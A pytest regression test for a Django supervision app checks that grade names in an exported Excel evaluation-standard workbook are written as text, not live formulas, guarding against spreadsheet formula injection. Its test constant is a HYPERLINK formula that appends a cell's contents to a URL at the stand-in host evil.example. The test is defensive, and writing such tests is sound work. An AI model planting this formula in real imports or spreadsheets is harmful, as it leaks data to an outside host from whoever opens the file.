"""The case-file evaluation standard's workbook (R-SUP-03) writes what a supervisor
imported as text: a grade named like a formula stayed a formula in the export (only the
items' cells went through ``xlsx_cell``), run by the spreadsheet of whoever opened the
download (probe 6, ADR 0072)."""

import io

import pytest
from openpyxl import load_workbook

from sanxiang.supervision import evaluation, standards

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"优秀")'


def test_grade_names_exported_as_text_not_formulas_R_SUP_03():
    standard = evaluation.ensure_default_standard()
    standard.grades = [[FORMULA, 90], *standard.grades[1:]]  # as read from an import

    book = load_workbook(io.BytesIO(standards.export_xlsx(standard)))

    cell = book[standards.GRADES_SHEET]["A2"]
    assert cell.value == FORMULA
    assert cell.data_type == "s"  # a formula would be "f"
